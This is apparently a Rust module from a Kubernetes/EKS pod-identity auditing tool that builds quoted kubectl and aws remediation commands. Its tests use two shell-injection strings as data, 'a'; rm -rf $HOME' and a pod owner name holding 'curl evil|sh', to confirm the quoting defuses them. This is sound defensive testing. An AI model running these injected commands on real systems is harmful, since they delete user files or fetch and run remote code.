//! The commands that findings name. They are for a shell, so what is put into them is quoted.

use std::borrow::Cow;

use podcreds_types::ServiceAccount;
use serde_json::Value;

use crate::snapshot::{Cluster, Details, Owner, Pod, role_name};

/// A word for a shell.
pub(crate) fn quoted(word: &str) -> Cow<'_, str> {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c);
    match !word.is_empty() && word.chars().all(is_plain) {
        true => Cow::Borrowed(word),
        false => Cow::Owned(format!("'{}'", word.replace('\'', r"'\''"))),
    }
}

/// What makes a pod, as kubectl names it: `deployment/web`. Nothing where its pods cannot be rolled
/// out.
fn maker(pod: &Pod) -> Option<String> {
    let Owner { kind, name } = pod.owner.as_ref()?;
    match kind.as_str() {
        "ReplicaSet" => {
            let hash = pod.labels.get("pod-template-hash")?;
            let deployment = name.strip_suffix(&format!("-{hash}"))?;
            Some(quoted(&format!("deployment/{deployment}")).into_owned())
        }
        "StatefulSet" => Some(quoted(&format!("statefulset/{name}")).into_owned()),
        "DaemonSet" => Some(quoted(&format!("daemonset/{name}")).into_owned()),
        _ => None,
    }
}

/// `kubectl`, in the pod's namespace.
fn kubectl(pod: &Pod) -> String {
    format!("kubectl -n {}", quoted(&pod.namespace))
}

/// Makes a pod again.
pub(crate) fn restart(pod: &Pod) -> String {
    let (kubectl, name) = (kubectl(pod), quoted(&pod.name));
    match (maker(pod), &pod.owner) {
        (Some(maker), _) => format!("{kubectl} rollout restart {maker}"),
        (None, Some(_)) => format!("{kubectl} delete pod {name}"),
        (None, None) => {
            format!("{kubectl} get pod {name} -o yaml > pod.yaml, delete it, and create it again")
        }
    }
}

/// Changes what makes a pod.
pub(crate) fn edit(pod: &Pod) -> String {
    match maker(pod) {
        Some(maker) => format!("{} edit {maker}", kubectl(pod)),
        None => format!("in what makes the pod, then {}", restart(pod)),
    }
}

/// Takes a variable away from a pod's containers.
pub(crate) fn unset(pod: &Pod, variable: &str) -> String {
    match maker(pod) {
        Some(maker) => format!("{} set env {maker} {variable}-", kubectl(pod)),
        None => format!(
            "take {variable} out of what makes the pod, then {}",
            restart(pod)
        ),
    }
}

/// Gives a pod another service account.
pub(crate) fn use_account(pod: &Pod, account: &ServiceAccount) -> String {
    let name = quoted(&account.name);
    match maker(pod) {
        Some(maker) => format!("{} set serviceaccount {maker} {name}", kubectl(pod)),
        None => format!(
            "set serviceAccountName: {} in what makes the pod, then {}",
            account.name,
            restart(pod)
        ),
    }
}

/// What says where the cluster is.
fn place(cluster: &Cluster) -> String {
    let region = cluster.region.as_deref();
    let region = region.map(|region| format!(" --region {}", quoted(region)));
    format!(
        "--cluster-name {}{}",
        quoted(&cluster.name),
        region.unwrap_or_default()
    )
}

/// Makes an association, with another one's roles and session tags. Its policy is not repeated.
pub(crate) fn create_association(
    cluster: &Cluster,
    account: &ServiceAccount,
    like: Option<&Details>,
) -> String {
    let role = like.map_or("ROLE_ARN", |details| details.role.as_str());
    let target = like.and_then(|details| details.target_role.as_deref());
    let target = target.map(|target| format!(" --target-role-arn {}", quoted(target)));
    let tags = match like.is_none_or(|details| details.session_tags) {
        true => "",
        false => " --disable-session-tags",
    };
    format!(
        "aws eks create-pod-identity-association {} --namespace {} --service-account {} \
         --role-arn {}{}{tags}",
        place(cluster),
        quoted(&account.namespace),
        quoted(&account.name),
        quoted(role),
        target.unwrap_or_default()
    )
}

/// Gives an association another role, by the flag for that role.
pub(crate) fn update_association(cluster: &Cluster, id: &str, flag: &str) -> String {
    format!(
        "aws eks update-pod-identity-association {} --association-id {} {flag} ROLE_ARN",
        place(cluster),
        quoted(id)
    )
}

/// Takes an add-on away.
pub(crate) fn delete_addon(cluster: &Cluster, name: &str) -> String {
    format!(
        "aws eks delete-addon {} --addon-name {}",
        place(cluster),
        quoted(name)
    )
}

/// Makes a service account.
pub(crate) fn create_account(account: &ServiceAccount) -> String {
    format!(
        "kubectl -n {} create serviceaccount {}",
        quoted(&account.namespace),
        quoted(&account.name)
    )
}

/// Replaces a role's trust policy with this one.
pub(crate) fn set_trust(role: &str, policy: &Value) -> String {
    format!(
        "aws iam update-assume-role-policy --role-name {} --policy-document {}",
        quoted(role_name(role).unwrap_or(role)),
        quoted(&policy.to_string())
    )
}

/// Opens a role's trust policy for a change by hand.
pub(crate) fn edit_trust(role: &str) -> String {
    let name = role_name(role).unwrap_or(role);
    let name = quoted(name);
    format!(
        "aws iam get-role --role-name {name} --query Role.AssumeRolePolicyDocument > trust.json, \
         change that, then aws iam update-assume-role-policy --role-name {name} \
         --policy-document file://trust.json"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_shell_would_obey_is_quoted() {
        assert_eq!(quoted("arn:aws:iam::1:role/a+b"), "arn:aws:iam::1:role/a+b");
        assert_eq!(quoted("a'; rm -rf $HOME"), r"'a'\''; rm -rf $HOME'");
        assert_eq!(quoted(""), "''");
    }

    #[test]
    fn an_association_is_made_like_another() {
        let cluster = Cluster {
            name: "prod".to_owned(),
            region: Some("eu-west-1".to_owned()),
            ..Cluster::default()
        };
        let details = Details {
            role: "arn:aws:iam::1:role/a".to_owned(),
            target_role: Some("arn:aws:iam::2:role/b".to_owned()),
            session_tags: true,
            ..Details::default()
        };
        let account = "shop/reader".parse().unwrap();
        assert_eq!(
            create_association(&cluster, &account, Some(&details)),
            "aws eks create-pod-identity-association --cluster-name prod --region eu-west-1 \
             --namespace shop --service-account reader --role-arn arn:aws:iam::1:role/a \
             --target-role-arn arn:aws:iam::2:role/b"
        );
        assert!(create_association(&cluster, &account, None).ends_with("--role-arn ROLE_ARN"));
        let untagged = Details {
            session_tags: false,
            ..details
        };
        let create = create_association(&cluster, &account, Some(&untagged));
        assert!(create.ends_with(" --disable-session-tags"), "{create}");
    }

    fn pod(kind: &str, name: &str) -> Pod {
        Pod {
            namespace: "shop".to_owned(),
            name: "web-7f8d-x".to_owned(),
            labels: [("pod-template-hash".to_owned(), "7f8d".to_owned())].into(),
            owner: Some(Owner {
                kind: kind.to_owned(),
                name: name.to_owned(),
            }),
            ..Pod::default()
        }
    }

    #[test]
    fn what_made_a_pod_is_restarted() {
        let deployment = restart(&pod("ReplicaSet", "web-7f8d"));
        assert_eq!(deployment, "kubectl -n shop rollout restart deployment/web");
        let set = restart(&pod("StatefulSet", "db"));
        assert_eq!(set, "kubectl -n shop rollout restart statefulset/db");
        let job = restart(&pod("Job", "once"));
        assert_eq!(job, "kubectl -n shop delete pod web-7f8d-x");
        let mut alone = pod("Job", "once");
        alone.owner = None;
        assert!(restart(&alone).ends_with("create it again"));
    }

    #[test]
    fn a_pod_that_cannot_be_rolled_out_is_changed_where_it_is_made() {
        let job = pod("Job", "once");
        let account = "shop/reader".parse().unwrap();
        for command in [edit(&job), unset(&job, "X"), use_account(&job, &account)] {
            assert!(command.contains("what makes the pod"), "{command}");
            assert!(command.ends_with("kubectl -n shop delete pod web-7f8d-x"));
        }
    }

    /// A pod says itself who owns it.
    #[test]
    fn an_owners_name_runs_nothing() {
        let pod = pod("StatefulSet", "a; curl evil|sh #");
        let account = "shop/reader".parse().unwrap();
        for command in [
            restart(&pod),
            edit(&pod),
            unset(&pod, "X"),
            use_account(&pod, &account),
        ] {
            assert!(
                command.contains(" 'statefulset/a; curl evil|sh #'"),
                "{command}"
            );
        }
    }
}
